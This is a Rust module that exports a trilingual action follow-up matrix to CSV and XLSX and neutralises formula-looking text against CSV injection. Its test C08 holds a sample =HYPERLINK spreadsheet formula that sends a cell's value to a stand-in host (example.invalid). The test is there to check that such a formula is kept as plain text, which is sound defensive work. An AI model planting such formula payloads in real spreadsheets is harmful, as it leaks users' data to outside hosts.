//! The follow-up matrix: one row per action.

use jiff::civil::Date;
use lajna_domain::records::{Action, Area};
use lajna_domain::summary;
use lajna_domain::{ActionStatus, Lang, LocalizedText};
use rust_xlsxwriter::{Color, DataValidation, Format, Workbook, XlsxError};

/// Why a matrix could not be written.
#[derive(Debug, thiserror::Error)]
pub enum MatrixError {
    /// The XLSX writer failed.
    #[error("xlsx: {0}")]
    Xlsx(#[from] XlsxError),
    /// The CSV writer failed.
    #[error("csv: {0}")]
    Csv(#[from] csv::Error),
}

/// One action as a matrix row.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct MatrixRow {
    /// Action id (matches rows on re-import).
    pub id: String,
    /// Area title in the matrix language.
    pub area: String,
    /// Title in Arabic.
    pub title_ar: String,
    /// Title in French.
    pub title_fr: String,
    /// Owner party code.
    pub owner: String,
    /// Owning unit in the matrix language.
    pub unit: String,
    /// Start date.
    pub start: Date,
    /// Due date.
    pub due: Date,
    /// Status code.
    pub status: &'static str,
    /// Progress, percent.
    pub progress: u8,
    /// Indicator unit, baseline, target, current.
    pub indicator: Option<(String, i64, i64, i64)>,
    /// Days late on the reference date (0 when not overdue).
    pub days_late: i64,
    /// Author time of the last change, RFC 3339 UTC.
    pub last_update: String,
    /// Reference of the decision the action carries out (`D-2025/1-3`), empty when none
    /// ([`lajna_domain::reference`]).
    pub decision: String,
}

impl MatrixRow {
    /// A row from an action, its area, its last update time and the reference date.
    #[must_use]
    pub fn new(id: &str, a: &Action, area: Option<&Area>, last_update: &str, lang: Lang, today: Date) -> Self {
        let show = |t: &LocalizedText| t.show(lang).to_string();
        Self {
            id: id.to_string(),
            area: area.map(|a| show(&a.title)).unwrap_or_default(),
            title_ar: a.title.ar.clone().unwrap_or_default(),
            title_fr: a.title.fr.clone().unwrap_or_default(),
            owner: a.owner.to_string(),
            unit: show(&a.unit),
            start: a.start,
            due: a.due,
            status: a.status.code(),
            progress: a.progress.percent(),
            indicator: a.indicator.as_ref().map(|i| (show(&i.unit), i.baseline, i.target, i.current)),
            days_late: summary::days_late(a, today),
            last_update: last_update.to_string(),
            decision: String::new(),
        }
    }
}

/// Column headers in `lang` (the import recognises all three languages).
#[must_use]
pub fn headers(lang: Lang) -> [&'static str; 16] {
    match lang {
        Lang::Fr => [
            "Identifiant",
            "Domaine",
            "Action (arabe)",
            "Action (français)",
            "Partie responsable",
            "Unité",
            "Début",
            "Échéance",
            "Statut",
            "Avancement %",
            "Indicateur (unité)",
            "Référence",
            "Cible",
            "Actuel",
            "Dernière mise à jour",
            "Décision",
        ],
        Lang::Ar => [
            "المعرف",
            "المجال",
            "الإجراء (بالعربية)",
            "الإجراء (بالفرنسية)",
            "الطرف المسؤول",
            "الوحدة",
            "البداية",
            "الأجل",
            "الحالة",
            "نسبة الإنجاز %",
            "المؤشر (الوحدة)",
            "القيمة الأساسية",
            "الهدف",
            "القيمة الحالية",
            "آخر تحيين",
            "القرار",
        ],
        Lang::En => [
            "Id",
            "Area",
            "Action (Arabic)",
            "Action (French)",
            "Owner party",
            "Unit",
            "Start",
            "Due",
            "Status",
            "Progress %",
            "Indicator (unit)",
            "Baseline",
            "Target",
            "Current",
            "Last update",
            "Decision",
        ],
    }
}

/// A text cell as a spreadsheet must read it: text. Cells starting with `=`, `+`, `-`, `@`,
/// TAB or CR would be taken for a formula (OWASP "CSV injection"); an apostrophe before them
/// makes every spreadsheet show the text as typed. The import removes it again.
#[must_use]
pub fn neutralise(text: &str) -> String {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}"),
        _ => text.to_string(),
    }
}

/// The 16 cells of a row as the export writes them, in [`headers`] order, before CSV
/// neutralising (C08): text, with numbers and dates in their plain forms.
#[must_use]
pub fn cells(r: &MatrixRow) -> [String; 16] {
    let (iu, ib, it, ic) = match &r.indicator {
        Some((u, b, t, c)) => (u.clone(), b.to_string(), t.to_string(), c.to_string()),
        None => Default::default(),
    };
    [
        r.id.clone(),
        r.area.clone(),
        r.title_ar.clone(),
        r.title_fr.clone(),
        r.owner.clone(),
        r.unit.clone(),
        r.start.to_string(),
        r.due.to_string(),
        r.status.to_string(),
        r.progress.to_string(),
        iu,
        ib,
        it,
        ic,
        r.last_update.clone(),
        r.decision.clone(),
    ]
}

/// Columns that hold numbers (never neutralised: `-20` stays minus twenty).
const NUMERIC: [usize; 4] = [9, 11, 12, 13];

/// The matrix as CSV: UTF-8 with BOM, RFC 4180 quoting, formula-looking text neutralised.
///
/// # Errors
/// [`MatrixError::Csv`] if the writer fails.
pub fn to_csv(rows: &[MatrixRow], lang: Lang) -> Result<Vec<u8>, MatrixError> {
    let mut out = vec![0xEF, 0xBB, 0xBF];
    {
        let mut w = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(&mut out);
        w.write_record(headers(lang))?;
        for r in rows {
            let c = cells(r);
            let record: Vec<String> = c
                .iter()
                .enumerate()
                .map(|(i, v)| if NUMERIC.contains(&i) { v.clone() } else { neutralise(v) })
                .collect();
            w.write_record(&record)?;
        }
        w.flush().map_err(csv::Error::from)?;
    }
    Ok(out)
}

/// The matrix as XLSX: frozen header row, status as a drop-down list, overdue rows
/// highlighted, right-to-left sheet for Arabic, every text a string cell (never a formula).
///
/// # Errors
/// [`MatrixError::Xlsx`] if the writer fails.
pub fn to_xlsx(rows: &[MatrixRow], lang: Lang) -> Result<Vec<u8>, MatrixError> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name(match lang {
        Lang::Ar => "مصفوفة المتابعة",
        Lang::Fr => "Matrice de suivi",
        Lang::En => "Follow-up matrix",
    })?;
    sheet.set_right_to_left(lang == Lang::Ar);
    let bold = Format::new().set_bold().set_background_color(Color::RGB(0x00E8_EEF5));
    let late = Format::new().set_background_color(Color::RGB(0x00FD_ECEC));
    let plain = Format::new();
    for (c, h) in headers(lang).iter().enumerate() {
        sheet.write_string_with_format(0, c as u16, *h, &bold)?;
        sheet.set_column_width(c as u16, if c == 0 { 18 } else { 16 })?;
    }
    sheet.set_freeze_panes(1, 0)?;
    for (i, r) in rows.iter().enumerate() {
        let row = (i + 1) as u32;
        let format = if r.days_late > 0 { &late } else { &plain };
        for (c, v) in cells(r).iter().enumerate() {
            let col = c as u16;
            match (NUMERIC.contains(&c), v.parse::<f64>()) {
                (true, Ok(n)) => {
                    sheet.write_number_with_format(row, col, n, format)?;
                }
                _ => {
                    sheet.write_string_with_format(row, col, v, format)?;
                }
            }
        }
    }
    if !rows.is_empty() {
        let statuses: Vec<&str> = ActionStatus::ALL.iter().map(|s| s.code()).collect();
        let list = DataValidation::new().allow_list_strings(&statuses)?;
        sheet.add_data_validation(1, 8, rows.len() as u32, 8, &list)?;
    }
    Ok(book.save_to_buffer()?)
}

/// The matrix rows of every action in `state`, by area order then due date.
#[must_use]
pub fn rows(state: &lajna_domain::State, lang: Lang, today: Date) -> Vec<MatrixRow> {
    use lajna_domain::RecordKind;
    let areas: Vec<(String, Area)> = state.all::<Area>(RecordKind::Area);
    let references = lajna_domain::reference::decision_references(state);
    let mut out: Vec<(i64, MatrixRow)> = state
        .all::<Action>(RecordKind::Action)
        .into_iter()
        .map(|(id, a)| {
            let area = areas.iter().find(|(aid, _)| *aid == a.area).map(|(_, x)| x);
            let updated = state.entry(&id).map(|e| e.updated_at.clone()).unwrap_or_default();
            let mut row = MatrixRow::new(&id, &a, area, &updated, lang, today);
            row.decision = a.decision.as_ref().and_then(|d| references.get(d)).cloned().unwrap_or_default();
            (area.map_or(i64::MAX, |x| x.ordinal), row)
        })
        .collect();
    out.sort_by(|a, b| a.0.cmp(&b.0).then(a.1.due.cmp(&b.1.due)).then(a.1.id.cmp(&b.1.id)));
    out.into_iter().map(|(_, r)| r).collect()
}

#[cfg(test)]
mod tests {
    use calamine::{Data, Reader, Xlsx};
    use jiff::civil::date;

    use super::*;

    fn row(title_fr: &str, unit: &str) -> MatrixRow {
        MatrixRow {
            id: "a".repeat(64),
            area: "Formation".into(),
            title_ar: "تدريب 12 ضابطاً".into(),
            title_fr: title_fr.into(),
            owner: "MAR".into(),
            unit: unit.into(),
            start: date(2025, 3, 1),
            due: date(2025, 6, 30),
            status: "in_progress",
            progress: 60,
            indicator: Some(("places".into(), -20, 20, 12)),
            days_late: 3,
            last_update: "2025-06-01T10:00:00Z".into(),
            decision: "D-2025/1-3".into(),
        }
    }

    /// Case C07: the CSV starts with a UTF-8 BOM and keeps Arabic and the em dash as typed.
    #[test]
    fn c07_csv_starts_with_a_bom_and_keeps_arabic() {
        let bytes = to_csv(&[row("Former 12 officiers — phase 2", "École")], Lang::Fr).unwrap();
        assert_eq!(&bytes[..3], &[0xEF, 0xBB, 0xBF]);
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        assert!(text.starts_with("Identifiant,Domaine,"), "{text}");
        assert!(text.contains("تدريب 12 ضابطاً") && text.contains("Former 12 officiers — phase 2"));
    }

    /// Case C08: formula-looking text is neutralised in CSV and never a formula in XLSX;
    /// numeric columns (a baseline of -20) stay numbers.
    #[test]
    fn c08_formula_looking_text_stays_text() {
        let evil = "=HYPERLINK(\"http://example.invalid/?\"&A1;\"Détails\")";
        let rows = [row(evil, "@SUM(1+1)")];
        let csv = String::from_utf8(to_csv(&rows, Lang::Fr).unwrap()[3..].to_vec()).unwrap();
        assert!(csv.contains("\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1;\"\"Détails\"\")\""), "{csv}");
        assert!(csv.contains(",'@SUM(1+1),"), "{csv}");
        assert!(csv.contains(",-20,20,12,"), "numbers untouched: {csv}");
        let xlsx = to_xlsx(&rows, Lang::Ar).unwrap();
        let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx)).unwrap();
        let name = book.sheet_names()[0].clone();
        assert_eq!(name, "مصفوفة المتابعة");
        let range = book.worksheet_range(&name).unwrap();
        assert_eq!(range.get_value((1, 3)), Some(&Data::String(evil.to_string())));
        assert_eq!(range.get_value((1, 5)), Some(&Data::String("@SUM(1+1)".into())));
        assert_eq!(range.get_value((1, 11)), Some(&Data::Float(-20.0)));
        assert_eq!(range.get_value((1, 9)), Some(&Data::Float(60.0)));
        assert_eq!(range.get_value((0, 0)), Some(&Data::String("المعرف".into())));
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "a formula was written");
    }
}
